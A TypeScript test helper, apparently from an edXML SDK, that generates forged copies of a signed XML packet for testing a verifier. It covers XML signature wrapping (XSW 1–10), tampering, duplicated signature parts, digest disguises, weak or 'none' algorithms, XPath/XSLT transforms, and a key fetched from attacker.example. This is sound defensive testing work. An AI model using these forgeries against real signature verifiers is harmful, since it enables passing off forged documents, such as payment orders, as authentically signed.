/**
 * Attacks on a signed packet by somebody who has no key: the signature wrappings of the SAML literature (XSW 1–8) and of its tools (9, 10), carried over
 * to edXML, and everything else that moves, doubles, hides or changes what was signed. Works on the text of any packet in the SDK's shape.
 */
import { createHash } from 'node:crypto'

import { canonicalise, EXCLUSIVE_C14N } from '../../src/edxml/xml.ts'

/** A forged packet, and what was done to it. */
export type Forgery = { name: string, packet: string }

const DS = 'http://www.w3.org/2000/09/xmldsig#'

/** All forgeries of a signed packet. */
export function forgeriesOf (signed: string): Forgery[] {
  return [...wrappings(signed), ...tamperings(signed), ...doublings(signed), ...disguises(signed)]
}

/** XSW 1–10: the original goes on existing somewhere, so that a verifier may find it, while an evil twin stands where a reader looks. */
function wrappings (signed: string): Forgery[] {
  const { signature, bare, root, envelope, evil, header } = partsOf(signed)
  const inSignature = (content: string) => signature.replace(/<\/((?:\w+:)?Signature)>$/, `${content}</$1>`)
  const signedInfo = /<(\w+:)?SignedInfo[\s\S]*<\/(\w+:)?SignedInfo>/.exec(signature)![0]
  // It has the right digest: a verifier that reads it in place of the one that was signed finds nothing wrong
  const evilInfo = signedInfo.replace(/(DigestValue>)[^<]*/, `$1${createHash('sha256').update(canonicalise(Buffer.from(evilOf(bare)), EXCLUSIVE_C14N)).digest('base64')}`)
  const doubled = signature.replace(/<\/(\w+:)?SignatureValue>/, `$&${evilInfo}`)
  return [
    { name: 'XSW 1: an evil root around the signature, which holds the original root', packet: evil.replace(signature, inSignature(root)) },
    { name: 'XSW 2: an evil root, the original root beside the signature', packet: evil.replace(signature, root + signature) },
    { name: 'XSW 3: an evil envelope before the original one', packet: signed.replace(envelope, withoutSignature(evilOf(envelope)) + envelope) },
    { name: 'XSW 4: an evil envelope around the original one', packet: signed.replace(envelope, withoutSignature(evilOf(envelope)).replace(/<\/[\w:]+>$/, `${envelope}$&`)) },
    { name: 'XSW 5: an evil envelope with the signature, the original one at the end', packet: evil.replace(/<\/edXML>\s*$/, `${withoutSignature(envelope)}$&`) },
    { name: 'XSW 6: an evil envelope, the original one inside the signature', packet: evil.replace(signature, inSignature(withoutSignature(envelope))) },
    { name: 'XSW 7: the original header in an extension before an evil one', packet: evil.replace(evilOf(header), `<Extensions>${header}</Extensions>${evilOf(header)}`) },
    { name: 'XSW 8: the original envelope in an Object of the signature', packet: evil.replace(signature, inSignature(`<Object xmlns="${DS}">${withoutSignature(envelope)}</Object>`)) },
    { name: 'XSW 9: after the SignedInfo that was signed, one with the digest of the evil packet', packet: evil.replace(signature, doubled) },
    { name: 'XSW 9: the same, the original root in a wrapper', packet: evil.replace(signature, doubled).replace(/<\/edXML>\s*$/, `<Wrapper>${root}</Wrapper>$&`) },
    { name: 'XSW 9: the evil SignedInfo first', packet: evil.replace(signature, signature.replace(signedInfo, evilInfo + signedInfo)) },
    { name: 'XSW 10: the original root in an Object, under an Id that an entity writes', packet: evil.replace(/\?>\s*/, '$&<!DOCTYPE edXML [<!ENTITY it "it">]>').replace(signature, inSignature(`<Object xmlns="${DS}" Id="&it;">${root}</Object>`).replace('URI=""', 'URI="#it"')) },
    { name: 'XSW: the original root in an Object, with an Id the Reference is turned to', packet: evil.replace(signature, inSignature(`<Object xmlns="${DS}" Id="it">${root}</Object>`).replace('URI=""', 'URI="#it"')) },
    { name: 'XSW: an evil header before the original one', packet: signed.replace(header, evilOf(header) + header) },
    { name: 'XSW: an evil header after the original one', packet: signed.replace(header, header + evilOf(header)) },
    { name: 'XSW: the signed packet as a whole inside an evil one', packet: evil.replace(signature, '').replace(/<\/edXML>\s*$/, `${signed.replace(/<\?xml.*?\?>/, '')}$&`) },
    { name: 'XSW: two roots, the evil one first', packet: bare.replace(root, evilOf(withoutSignature(root)) + signed.replace(/<\?xml.*?\?>\s*/, '')) },
    { name: 'XSW: two roots, the evil one last', packet: signed.trimEnd() + evilOf(withoutSignature(root)) },
  ]
}

/** Content changed, with the signature left as it was. */
function tamperings (signed: string): Forgery[] {
  const { attachments, signature } = partsOf(signed)
  const [first] = attachments
  if (first === undefined) throw new Error('a packet to forge needs an attachment')
  const contents = [...signed.matchAll(/(<[\w:]*ContentTransferEncoded[^>]*>)([^<]*)/g)].map(([, tag, text]) => ({ tag, text }))
  const last = contents.at(-1)!
  return [
    { name: 'a changed field', packet: evilOf(signed) },
    { name: 'one changed bit in an attachment', packet: signed.replace(`${contents[0]!.tag}${contents[0]!.text}`, `${contents[0]!.tag}${flipped(contents[0]!.text!)}`) },
    { name: 'white space in the base64 of an attachment', packet: signed.replace(last.text!, `${last.text!.slice(0, 4)}\n${last.text!.slice(4)}`) },
    { name: 'an attachment under another name', packet: signed.replace(first, first.replace(/(AttachmentName>)[^<]*/, '$1thu-moi.pdf')) },
    { name: 'an attachment removed', packet: signed.replace(first, '') },
    { name: 'an attachment added', packet: signed.replace(first, first + first.replace(/cid:[^<]*/, 'cid:them')) },
    { name: 'the attachments in another order', packet: attachments.length < 2 ? signed.replace(first, '') : swapped(signed, first, attachments.at(-1)!) },
    { name: 'a recipient added', packet: signed.replace(/<(edXML:)?To>[\s\S]*?<\/(edXML:)?To>/, '$&<edXML:To><edXML:OrganId>H99.66</edXML:OrganId></edXML:To>') },
    { name: 'white space added outside the fields', packet: signed.replace('</edXML:edXMLBody>', ' </edXML:edXMLBody>') },
    { name: 'an attribute added', packet: signed.replace('<edXML:edXMLBody>', '<edXML:edXMLBody id="it">') },
    { name: 'the signature moved to another place', packet: signed.replace(signature, '').replace('</edXML:edXMLBody>', `${signature}</edXML:edXMLBody>`) },
    { name: 'the signature under the root', packet: signed.replace(signature, '').replace(/<\/edXML>\s*$/, `${signature}$&`) },
    { name: 'an element in no namespace', packet: signed.replace('</edXML:edXMLHeader>', '<Note xmlns="">x</Note></edXML:edXMLHeader>') },
  ]
}

/** Parts of the signature twice, so that one is verified and the other one read. */
function doublings (signed: string): Forgery[] {
  const { signature, evil } = partsOf(signed)
  const signedInfo = /<(\w+:)?SignedInfo[\s\S]*<\/(\w+:)?SignedInfo>/.exec(signature)![0]
  const digestValue = /<(?:\w+:)?DigestValue>([^<]*)</.exec(signature)![1]!
  const evilInfo = signedInfo.replace(digestValue, flipped(digestValue))
  const reference = /<(?:\w+:)?Reference[\s\S]*<\/(?:\w+:)?Reference>/.exec(signedInfo)![0]
  const method = /<(?:\w+:)?CanonicalizationMethod[^>]*>(?:<\/[^>]*>)?/.exec(signedInfo)![0]
  const inEvil = (from: string, to: string) => ({ packet: evil.replace(signature, signature.replace(from, to)) })
  return [
    { name: 'the Signature twice', packet: signed.replace(signature, signature + signature) },
    { name: 'a second Signature in another namespace', packet: signed.replace(signature, `<Signature xmlns="urn:x"/>${signature}`) },
    { name: 'a second Signature, deep in the body', packet: signed.replace('</edXML:edXMLBody>', `<x xmlns="urn:x">${signature}</x></edXML:edXMLBody>`) },
    { name: 'two SignedInfo, the signed one first', ...inEvil(signedInfo, signedInfo + evilInfo) },
    { name: 'two SignedInfo, the signed one last', ...inEvil(signedInfo, evilInfo + signedInfo) },
    { name: 'a SignedInfo inside SignedInfo', ...inEvil(signedInfo, evilInfo.replace(/<\/(?:\w+:)?SignedInfo>$/, `${signedInfo}$&`)) },
    { name: 'a SignedInfo in an Object', ...inEvil(signedInfo, `<Object xmlns="${DS}">${signedInfo}</Object>${evilInfo}`) },
    { name: 'a decoy SignedInfo in another namespace', ...inEvil(signedInfo, `<SignedInfo xmlns="urn:x">${signedInfo}</SignedInfo>${signedInfo}`) },
    { name: 'two References', ...inEvil(reference, reference + reference) },
    { name: 'a Reference to another part first', ...inEvil(reference, reference.replace('URI=""', 'URI="#it"') + reference) },
    { name: 'a decoy CanonicalizationMethod before SignedInfo', ...inEvil(signedInfo, method + signedInfo) },
    { name: 'two CanonicalizationMethods', ...inEvil(method, method + method) },
    { name: 'two DigestValues', ...inEvil(digestValue, `${digestValue}</DigestValue><DigestValue>${flipped(digestValue)}`) },
    { name: 'two SignatureValues', packet: evil.replace(signature, signature.replace(/<(\w+:)?SignatureValue[\s\S]*<\/(\w+:)?SignatureValue>/, '$&$&')) },
  ]
}

/** Values that look otherwise to a careless reader, and algorithms that would let anybody sign. */
function disguises (signed: string): Forgery[] {
  const { signature, evil } = partsOf(signed)
  const digestValue = /<(?:\w+:)?DigestValue>([^<]*)</.exec(signature)![1]!
  const change = (from: string | RegExp, to: string) => evil.replace(signature, signature.replace(from, to))
  return [
    { name: 'a DigestValue that a comment cuts in two', packet: change(digestValue, `${flipped(digestValue)}<!-- -->${digestValue}`) },
    { name: 'a DigestValue with a CDATA section', packet: change(digestValue, `<![CDATA[${flipped(digestValue)}]]>`) },
    { name: 'an empty DigestValue', packet: change(digestValue, '') },
    { name: 'a DigestValue cut short', packet: change(digestValue, digestValue.slice(0, 4)) },
    { name: 'a processing instruction in a field', packet: signed.replace('<edXML:Subject>', '<edXML:Subject><?p x?>') },
    { name: 'a processing instruction in DigestValue', packet: change(digestValue, `<?p x?>${digestValue}`) },
    { name: 'a DOCTYPE with a default attribute', packet: signed.replace(/\?>\s*/, '$&<!DOCTYPE edXML [<!ATTLIST edXML x CDATA "y">]>') },
    { name: 'an entity in a field', packet: signed.replace(/\?>\s*/, '$&<!DOCTYPE edXML [<!ENTITY e "x">]>').replace('<edXML:Subject>', '<edXML:Subject>&e;') },
    { name: 'an HMAC', packet: change(/http:[^"]*rsa-sha256/, 'http://www.w3.org/2001/04/xmldsig-more#hmac-sha256') },
    { name: 'SHA-1', packet: change(/http:[^"]*rsa-sha256/, `${DS}rsa-sha1`) },
    { name: 'an algorithm called none', packet: change(/http:[^"]*rsa-sha256/, 'none') },
    { name: 'a transform by XPath that takes the changes out', packet: change(/<Transforms>/, '<Transforms><Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><XPath>not(ancestor-or-self::Subject)</XPath></Transform>') },
    { name: 'a transform by XSLT', packet: change(/<Transforms>/, '<Transforms><Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"></Transform>') },
    { name: 'no Reference at all', packet: change(/<(?:\w+:)?Reference[\s\S]*<\/(?:\w+:)?Reference>/, '') },
    { name: 'no KeyInfo', packet: change(/<(?:\w+:)?KeyInfo[\s\S]*<\/(?:\w+:)?KeyInfo>/, '') },
    { name: 'a key that comes along bare', packet: change(/<(\w+:)?X509Data[\s\S]*<\/(\w+:)?X509Data>/, '<KeyValue><RSAKeyValue><Modulus>AQAB</Modulus><Exponent>AQAB</Exponent></RSAKeyValue></KeyValue>') },
    { name: 'a key to be fetched', packet: change(/<(\w+:)?X509Data[\s\S]*<\/(\w+:)?X509Data>/, '<RetrievalMethod URI="http://attacker.example/key"></RetrievalMethod>') },
  ]
}

function partsOf (signed: string) {
  const signature = /<(\w+:)?Signature[ >][\s\S]*<\/(\w+:)?Signature>/.exec(signed)![0]
  const withoutDeclaration = (text: string) => text.replace(/^<\?xml.*?\?>\s*/, '').trimEnd()
  const bare = signed.replace(signature, '')
  return {
    signature,
    /** The packet without its signature, and the same as an element. */
    bare, root: withoutDeclaration(bare),
    /** The whole packet with other content under the same signature. */
    evil: evilOf(signed),
    envelope: /<(\w+:)?edXMLEnvelope[\s\S]*<\/(\w+:)?edXMLEnvelope>/.exec(signed)![0],
    header: /<(\w+:)?MessageHeader>[\s\S]*<\/(\w+:)?MessageHeader>/.exec(signed)![0],
    attachments: signed.match(/<Attachment>[\s\S]*?<\/Attachment>/g) ?? [],
  }
}

const withoutSignature = (text: string): string => text.replace(/<(\w+:)?Signature[ >][\s\S]*<\/(\w+:)?Signature>/, '')

/** The same, ordering something else. */
const evilOf = (text: string): string => text.replace(/(Subject>)[^<]*/, '$1Chuyển tiền ngay')

function swapped (text: string, first: string, second: string): string {
  return text.replace(first, '\0').replace(second, first).replace('\0', second)
}

/** Another base64 text of the same length. */
function flipped (base64: string): string {
  const at = Math.floor(base64.length / 2)
  return base64.slice(0, at) + (base64[at] === 'A' ? 'B' : 'A') + base64.slice(at + 1)
}
